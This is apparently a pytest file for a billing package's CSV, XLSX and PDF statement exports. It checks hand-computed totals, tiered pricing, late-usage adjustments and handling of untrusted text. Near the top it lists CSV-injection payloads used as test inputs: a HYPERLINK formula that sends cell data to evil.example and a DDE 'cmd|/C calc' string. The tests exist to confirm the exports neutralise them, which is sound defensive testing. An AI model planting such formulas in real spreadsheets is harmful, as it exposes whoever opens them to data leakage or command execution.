"""Statement exports: CSV, XLSX and PDF say what the statement says, safely and reproducibly.

The statement used throughout is worked out by hand (31-day March, Europe/Berlin):

- fixed fees: D1 all month 49.00; D2 added 10 March, 22 days: 49 × 22/31 = 34.774… → 34.77
- bond paper: 150 m² used; allowance 50 m² (D1) + 50 × 22/31 m² (D2: 35 483 870.97… mm²
  → 35 483 871 mm²) = 85 483 871 mm²; billable 64 516 129 mm² = 64.516129 m² × 0.85
  = 54.83870965 → 54.84
- pages, graduated: 6200 = 1000 × 0.05 + 4000 × 0.04 + 1200 × 0.03 = 50 + 160 + 36 = 246.00
- total: 49.00 + 34.77 + 54.84 + 246.00 = 384.61
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from fleetmeter.billing import (
    BillingError,
    DeviceUsage,
    LineKind,
    Period,
    PeriodUsage,
    Statement,
    StatementLine,
    rate,
)
from fleetmeter.billing.exports import (
    DEVICE_COLUMNS,
    FLAG_COLUMNS,
    LINE_COLUMNS,
    StatementHeader,
    device_usage_csv,
    grand_total,
    reconciliation_csv,
    safe_text,
    statement_lines_csv,
    statement_pdf,
    statement_xlsx,
)
from fleetmeter.billing.exports._pdf import font_path
from fleetmeter.billing.reconcile import Adjustment, Flag, FlagKind, adjust_late_usage
from fleetmeter.billing.whatif import load_usage
from tests.billing.helpers import plan

MARCH = Period.month(2026, 3, timezone="Europe/Berlin")

PLAN = plan(
    """
name = "Studio"
currency = "EUR"
fixed_fee = "49.00"
[[components]]
name = "Bond paper"
meter = "media_area"
media_type = "bond"
included = 50
unit_price = "0.85"
[[components]]
name = "Pages"
meter = "pages"
tier_mode = "graduated"
tiers = [
  { up_to = 1000, unit_price = "0.05" },
  { up_to = 5000, unit_price = "0.04" },
  { unit_price = "0.03" },
]
"""
)

USAGE = PeriodUsage(
    devices=(
        DeviceUsage(
            device="D1",
            meters={
                "media.bond.area_mm2": 150_000_000,
                "total_media_area_mm2": 150_000_000,
                "impressions": 6200,
                "jobs": 310,
            },
        ),
        DeviceUsage(device="D2", added_on=date(2026, 3, 10)),
    )
)

HEADER = StatementHeader(
    reseller="Plotter Partner GmbH",
    customer="Müller & Söhne Architekten",
    contract="C-2026-007",
    number="2026-03-0042",
    issued_at=datetime(2026, 4, 2, 9, 30, tzinfo=UTC),
)

# Cells a spreadsheet would evaluate (OWASP CSV injection), including full-width '='.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


FEBRUARY = Period.month(2026, 2, timezone="Europe/Berlin")


def late_february() -> Adjustment:
    """700 pages of February that arrived after February closed with 500 pages billed.

    February had 1000 × 0.05 … : before 500 × 0.05 = 25.00; after 1200 pages = 1000 × 0.05
    + 200 × 0.04 = 58.00; the change is +33.00 on the Pages line (D1's fee is unchanged).
    """
    return adjust_late_usage(
        PLAN,
        period=FEBRUARY,
        billed=PeriodUsage(devices=(DeviceUsage(device="D1", meters={"impressions": 500}),)),
        late=PeriodUsage(
            devices=(DeviceUsage(device="D1", meters={"impressions": 700, "jobs": 7}),)
        ),
        first_completed_at=datetime(2026, 2, 20, 10, 0, tzinfo=UTC),
        last_completed_at=datetime(2026, 2, 27, 16, 0, tzinfo=UTC),
    )


def flag(device: str = "D1", message: str = "jobs 41–43 missing", **fields: object) -> Flag:
    fields.setdefault("kind", FlagKind.SEQUENCE_GAP)
    fields.setdefault("size", 3)
    fields.setdefault("unit", "sequence_number")
    return Flag.model_validate({"device": device, "detail": message, **fields})


@pytest.fixture(scope="module")
def statement() -> Statement:
    return rate(PLAN, USAGE, period=MARCH)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_hand_computed_statement(statement: Statement) -> None:
    assert [line.amount for line in statement.lines] == [
        Decimal("49.00"),
        Decimal("34.77"),
        Decimal("54.84"),
        Decimal("246.00"),
    ]
    assert statement.total == Decimal("384.61")


# ---------------------------------------------------------------------------- CSV


def test_lines_csv_has_one_row_per_line_and_per_tier_slice(statement: Statement) -> None:
    text = statement_lines_csv(statement)
    assert text.splitlines()[0] == ",".join(LINE_COLUMNS)
    assert "\r\n" in text  # RFC 4180 line ends
    table = rows(text)
    assert [(r["kind"], r["device"] or r["label"], r["amount"]) for r in table] == [
        ("fixed_fee", "D1", "49.00"),
        ("fixed_fee", "D2", "34.77"),
        ("usage", "Bond paper", "54.84"),
        ("usage", "Pages", "246.00"),
        ("tier", "Pages", ""),
        ("tier", "Pages", ""),
        ("tier", "Pages", ""),
    ]
    assert sum(Decimal(r["amount"]) for r in table if r["amount"]) == Decimal("384.61")
    fee2 = table[1]
    assert (fee2["active_days"], fee2["period_days"], fee2["unit_price"]) == ("22", "31", "49.00")
    bond = table[2]
    assert bond["quantity"] == "150"
    assert bond["included"] == "85.483871"
    assert bond["billable"] == "64.516129"
    assert (bond["unit"], bond["filter"], bond["unit_price"]) == ("m2", "media_type=bond", "0.85")
    tiers = [
        (r["tier"], r["tier_above"], r["tier_up_to"], r["quantity"], r["subtotal"])
        for r in table[4:]
    ]
    assert tiers == [
        ("1", "0", "1000", "1000", "50"),  # subtotals are exact, not rounded
        ("2", "1000", "5000", "4000", "160"),
        ("3", "5000", "", "1200", "36"),
    ]
    assert {r["period_start"] for r in table} == {"2026-03-01"}
    assert {r["period_end"] for r in table} == {"2026-04-01"}
    assert {r["currency"] for r in table} == {"EUR"}
    assert {r["timezone"] for r in table} == {"Europe/Berlin"}


def test_device_usage_csv_is_a_usage_file_that_quotes_the_same_statement(
    statement: Statement, tmp_path: Path
) -> None:
    text = device_usage_csv(USAGE)
    assert text.splitlines()[0] == ",".join(DEVICE_COLUMNS)
    table = rows(text)
    assert ("D1", "media.bond.area_mm2", "150000000", "mm2", "", "") in [
        tuple(r.values()) for r in table
    ]
    assert ("D1", "impressions", "6200", "page") in [tuple(r.values())[:4] for r in table]
    # D2 used nothing: one row of 0 jobs keeps it (and its fixed fee) in the file.
    assert [tuple(r.values()) for r in table if r["device"] == "D2"] == [
        ("D2", "jobs", "0", "job", "2026-03-10", "")
    ]
    path = tmp_path / "usage.csv"
    path.write_text(text, encoding="utf-8")
    usage, _ = load_usage(path)
    assert rate(PLAN, usage, period=MARCH) == statement


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_cells_from_devices_cannot_be_formulas(payload: str) -> None:
    usage = PeriodUsage(devices=(DeviceUsage(device=payload, meters={"impressions": 5}),))
    s = rate(PLAN, usage, period=MARCH)
    lines = rows(statement_lines_csv(s))
    assert lines[0]["device"] == "'" + payload
    device_rows = rows(device_usage_csv(usage))
    assert device_rows[0]["device"] == "'" + payload
    (row,) = rows(reconciliation_csv([flag(payload, payload, placement=payload)]))
    assert row["device"] == row["message"] == row["placement"] == "'" + payload


def test_csv_guard_leaves_ordinary_text_and_our_numbers_alone() -> None:
    assert safe_text("SG81A001") == "SG81A001"
    assert safe_text("Müller = Söhne") == "Müller = Söhne"  # only a leading sign matters
    assert safe_text("") == ""
    assert safe_text(None) == ""
    # A credit (negative amount) is a number we wrote, not text: it is not guarded.
    credit = StatementLine(kind=LineKind.USAGE, label="-Credit", amount=Decimal("-5.00"))
    s = Statement(plan="=p", currency="EUR", period=MARCH, lines=(credit,), total=Decimal("-5.00"))
    (row,) = rows(statement_lines_csv(s))
    assert (row["label"], row["amount"]) == ("'-Credit", "-5.00")


def test_reconciliation_csv_has_one_row_per_flag() -> None:
    flags = [
        flag(),
        flag(
            "D2",
            "job records 1.5 mL short of the counters",
            kind=FlagKind.COUNTER_MISMATCH,
            size=1500,
            unit="uL",
            meter="ink.C.total_ul",
            counters=41500,
            jobs=40000,
            difference=1500,
            since=datetime(2026, 2, 28, 23, 0, tzinfo=UTC),
            until=datetime(2026, 3, 31, 22, 0, tzinfo=UTC),
        ),
        flag("D3", "7 late jobs", kind=FlagKind.LATE_USAGE, size=7, unit="job", period=FEBRUARY),
    ]
    text = reconciliation_csv(flags)
    assert text.splitlines()[0] == ",".join(FLAG_COLUMNS)
    gap, mismatch, late = rows(text)
    assert (gap["kind"], gap["size"], gap["unit"], gap["counters"]) == (
        "sequence_gap",
        "3",
        "sequence_number",
        "",
    )
    assert (mismatch["counters"], mismatch["jobs"], mismatch["difference"]) == (
        "41500",
        "40000",
        "1500",
    )
    assert (mismatch["since"], mismatch["until"]) == (
        "2026-02-28T23:00:00Z",
        "2026-03-31T22:00:00Z",
    )
    assert (late["period_start"], late["period_end"]) == ("2026-02-01", "2026-03-01")


def test_adjustments_are_lines_of_their_own_that_add_to_the_total(statement: Statement) -> None:
    adjustment = late_february()
    assert adjustment.amount == Decimal("33.00")
    assert grand_total(statement, [adjustment]) == Decimal("417.61")  # 384.61 + 33.00
    table = rows(statement_lines_csv(statement, adjustments=[adjustment]))
    (late,) = [r for r in table if r["adjusts_period_start"]]
    assert (late["label"], late["quantity"], late["amount"]) == ("Pages", "700", "33.00")
    assert (late["adjusts_period_start"], late["adjusts_period_end"]) == (
        "2026-02-01",
        "2026-03-01",
    )
    assert sum(Decimal(r["amount"]) for r in table if r["amount"]) == Decimal("417.61")


def test_adjustments_in_another_currency_are_refused(statement: Statement) -> None:
    other = late_february().model_copy(update={"currency": "USD"})
    for render in (
        lambda: statement_lines_csv(statement, adjustments=[other]),
        lambda: statement_xlsx(statement, USAGE, adjustments=[other]),
        lambda: statement_pdf(statement, USAGE, header=HEADER, adjustments=[other]),
    ):
        with pytest.raises(BillingError, match="in USD, the statement in EUR"):
            render()


def test_zero_decimal_currency_amounts_have_no_decimals() -> None:
    yen = plan(
        'name = "Y"\ncurrency = "JPY"\n'
        '[[components]]\nname = "P"\nmeter = "pages"\nunit_price = "2.5"\n'
    )
    s = rate(
        yen,
        PeriodUsage(devices=(DeviceUsage(device="D1", meters={"impressions": 3}),)),
        period=MARCH,
    )
    (row,) = rows(statement_lines_csv(s))
    assert row["amount"] == "8"  # 3 × 2.5 = 7.5 → 8 (half up)


# ---------------------------------------------------------------------------- XLSX


def test_xlsx_has_three_sheets_with_numbers_as_numbers(statement: Statement) -> None:
    flags = [flag()]
    book = load_workbook(io.BytesIO(statement_xlsx(statement, USAGE, header=HEADER, flags=flags)))
    assert book.sheetnames == ["Statement", "Devices", "Reconciliation"]

    sheet = book["Statement"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    facts = {row[0]: row[1] for row in values if row[0] and row[1] is not None}
    assert facts["Customer"] == "Müller & Söhne Architekten"
    assert facts["Contract"] == "C-2026-007"
    assert facts["Period"] == "1 March 2026 – 31 March 2026 (Europe/Berlin)"
    assert facts["Total"] == pytest.approx(384.61)
    heading = next(i for i, row in enumerate(values) if row[0] == "Item")
    columns = values[heading]
    amount = columns.index("Amount")
    table = values[heading + 1 :]
    assert [row[amount] for row in table] == [49, 34.77, 54.84, 246, None, None, None, 384.61]
    assert table[-1][0] == "Total EUR"
    first_amount = sheet.cell(row=heading + 2, column=amount + 1)
    assert first_amount.data_type == "n"
    assert first_amount.number_format == "#,##0.00"
    quantity = sheet.cell(row=heading + 4, column=columns.index("Quantity") + 1)
    assert (quantity.data_type, quantity.value) == ("n", 150)

    devices = [[c.value for c in row] for row in book["Devices"].iter_rows()]
    assert devices[0][:5] == [
        "Device",
        "Added on",
        "Removed on",
        "Active days",
        "Jobs outside period",
    ]
    assert "media.bond.area_mm2" in devices[0]
    d2 = devices[2]
    assert d2[0] == "D2" and d2[1] == datetime(2026, 3, 10) and d2[3] == 22

    recon = [[c.value for c in row] for row in book["Reconciliation"].iter_rows()]
    assert recon[0][:4] == ["Device", "Kind", "Size", "Unit"]
    assert recon[0][-1] == "Message"
    assert recon[1][:4] == ["D1", "sequence_gap", 3, "sequence_number"]
    assert recon[1][-1] == "jobs 41–43 missing"


def test_xlsx_shows_adjustments_and_the_total_with_them(statement: Statement) -> None:
    data = statement_xlsx(statement, USAGE, header=HEADER, adjustments=[late_february()])
    sheet = load_workbook(io.BytesIO(data))["Statement"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    facts = {row[0]: row[1] for row in values if row[0] and row[1] is not None}
    assert facts["This period"] == pytest.approx(384.61)
    assert facts["Late usage, 1 February 2026 – 28 February 2026 (Europe/Berlin)"] == 33
    assert facts["Total"] == pytest.approx(417.61)
    heading = next(i for i, row in enumerate(values) if row[0] == "Item")
    columns = values[heading]
    quantity, amount = columns.index("Quantity"), columns.index("Amount")
    late = [row for row in values[heading + 1 :] if row[columns.index("Adjusts period")]]
    assert [(row[0], row[quantity], row[amount]) for row in late] == [("Pages", 700, 33)]
    assert values[-1][0] == "Total EUR"
    assert values[-1][amount] == pytest.approx(417.61)


def test_xlsx_says_whether_reconciliation_ran(statement: Statement) -> None:
    def first_row(flags: list[Flag] | None) -> object:
        book = load_workbook(io.BytesIO(statement_xlsx(statement, USAGE, flags=flags)))
        return book["Reconciliation"]["A2"].value

    assert first_row(None) == "Not reconciled."
    assert first_row([]) == "No discrepancies found."


def test_xlsx_strings_stay_strings() -> None:
    payload = FORMULAS[0]
    hostile = StatementHeader(reseller=payload, customer="@cmd", contract="+1", number="-1")
    usage = PeriodUsage(devices=(DeviceUsage(device=payload, meters={"impressions": 5}),))
    s = rate(PLAN, usage, period=MARCH)
    data = statement_xlsx(s, usage, header=hostile, flags=[flag(payload, payload, meter=payload)])

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 3
        for name in sheets:
            assert "<f>" not in archive.read(name).decode(), name  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    found = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == payload
    ]
    assert len(found) >= 6  # reseller, fixed-fee device, device row, flag device/meter/message
    assert {cell.data_type for cell in found} == {"s"}
    assert book["Statement"]["B2"].value == payload


def test_xlsx_survives_control_characters_and_huge_names() -> None:
    name = "bad\x00\x07\x1b[31m" + "x" * 40_000
    usage = PeriodUsage(devices=(DeviceUsage(device=name[:256], meters={"jobs": 1}),))
    s = rate(PLAN, usage, period=MARCH)
    header = StatementHeader(reseller=name, customer="c\u202eevil", contract="k")
    book = load_workbook(io.BytesIO(statement_xlsx(s, usage, header=header)))
    assert book["Devices"]["A2"].value.startswith("bad")  # type: ignore[union-attr]


def test_xlsx_is_reproducible_and_dated_from_the_statement(statement: Statement) -> None:
    one = statement_xlsx(statement, USAGE, header=HEADER)
    assert one == statement_xlsx(statement, USAGE, header=HEADER)
    with zipfile.ZipFile(io.BytesIO(one)) as archive:
        core = archive.read("docProps/core.xml").decode()
    assert "2026-04-02T09:30:00Z" in core
    # Without an issue date: the end of the period, midnight in Berlin (UTC+2 on 1 April).
    with zipfile.ZipFile(io.BytesIO(statement_xlsx(statement, USAGE))) as archive:
        assert "2026-03-31T22:00:00Z" in archive.read("docProps/core.xml").decode()


# ---------------------------------------------------------------------------- PDF


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_pdf_shows_header_lines_totals_devices_and_rounding_rule(statement: Statement) -> None:
    data = statement_pdf(statement, USAGE, header=HEADER)
    assert data.startswith(b"%PDF-")
    text = pdf_text(data)
    for expected in (
        "Plotter Partner GmbH",
        "Statement 2026-03-0042",
        "Müller & Söhne Architekten",
        "C-2026-007",
        "1 March 2026 – 31 March 2026 (Europe/Berlin)",
        "Issued 2 April 2026",
        "Fixed fee: D2",
        "22/31 days",
        "34.77",
        "64.516129 m²",
        "0.85/m²",
        "Pages 6,200 pages 6,200 pages graduated 246.00",
        "Tier 1 (above 0 up to 1,000 pages) 1,000 pages 0.05 (50.00)",
        "Tier 3 (above 5,000 pages) 1,200 pages 0.03 (36.00)",
        "(160.00)",
        "246.00",
        "Total EUR 384.61",
        "Usage by device",
        "rounded once, half up",
        "EUR: 2 decimals",
        "Page 1 of 1",
    ):
        assert expected in text, expected
    assert "DRAFT" not in text


def test_pdf_shows_late_usage_and_the_total_with_it(statement: Statement) -> None:
    text = pdf_text(statement_pdf(statement, USAGE, header=HEADER, adjustments=[late_february()]))
    for expected in (
        "Subtotal, this period 384.61",
        "Late usage for 1 February 2026 – 28 February 2026 (Europe/Berlin): 7 jobs that arrived "
        "after that statement closed, completed\n20 February 2026 – 27 February 2026",
        "Pages +700 pages +700 pages +33.00",
        "Late usage for 1 February 2026 – 28 February 2026 (Europe/Berlin) 33.00",
        "Total EUR 417.61",
        "Late usage is usage of an earlier period",
    ):
        assert expected in text, expected


def test_pdf_is_reproducible(statement: Statement) -> None:
    one = statement_pdf(statement, USAGE, header=HEADER)
    assert one == statement_pdf(statement, USAGE, header=HEADER)
    assert b"D:20260402093000Z" in one  # creation date from the statement, not the clock


@pytest.mark.parametrize(
    "name",
    [
        "Printer 😀🖨️ \U0001f9d1\u200d\U0001f4bb",  # emoji, ZWJ sequence
        "מדפסת \u202eevil\u202c عربي",  # RTL scripts, bidi override
        "ctl\x00\x01\x07\x1b[2J\r\n\tend",  # control characters
        "private use \ue000 \U0010fffd, noncharacter \uffff",
        "W" * 5000,  # one very long word
        "word " * 2000,
        "",
    ],
)
def test_pdf_never_breaks_on_untrusted_text(name: str) -> None:
    header = StatementHeader(reseller=name, customer=name, contract=name, number=name, draft=True)
    device = name[:256] or "D"
    usage = PeriodUsage(devices=(DeviceUsage(device=device, meters={"impressions": 1}),))
    s = rate(PLAN, usage, period=MARCH)
    text = pdf_text(statement_pdf(s, usage, header=header))
    assert "DRAFT" in text
    assert "\u202e" not in text and "\x00" not in text
    assert "Total EUR" in text


def test_pdf_replaces_what_the_font_cannot_draw() -> None:
    header = HEADER.model_copy(update={"customer": "Ελληνικά Кириллица 😀 שלום \u202eabc"})
    s = rate(PLAN, USAGE, period=MARCH)
    text = pdf_text(statement_pdf(s, USAGE, header=header))
    # Greek and Cyrillic are in Noto Sans; emoji and Hebrew are not; the override is dropped.
    assert "Ελληνικά Кириллица ? ???? abc" in text


def test_pdf_of_a_large_contract_runs_over_pages() -> None:
    usage = PeriodUsage(
        devices=tuple(
            DeviceUsage(device=f"SG{i:05d}", meters={"impressions": i, "jobs": 1})
            for i in range(150)
        )
    )
    s = rate(PLAN, usage, period=MARCH)
    reader = PdfReader(io.BytesIO(statement_pdf(s, usage, header=HEADER)))
    pages = len(reader.pages)
    assert pages > 2
    text = "\n".join(p.extract_text() for p in reader.pages)
    assert f"Page {pages} of {pages}" in text
    assert "SG00149" in text
    assert re.search(r"Total EUR [\d,]+\.\d\d", text)


def test_the_font_ships_with_the_package() -> None:
    # The PDF must work on a fresh machine: the TTF comes from a wheel, not from the OS.
    assert font_path().is_file()
    assert font_path().read_bytes()[:4] in (b"\x00\x01\x00\x00", b"true")
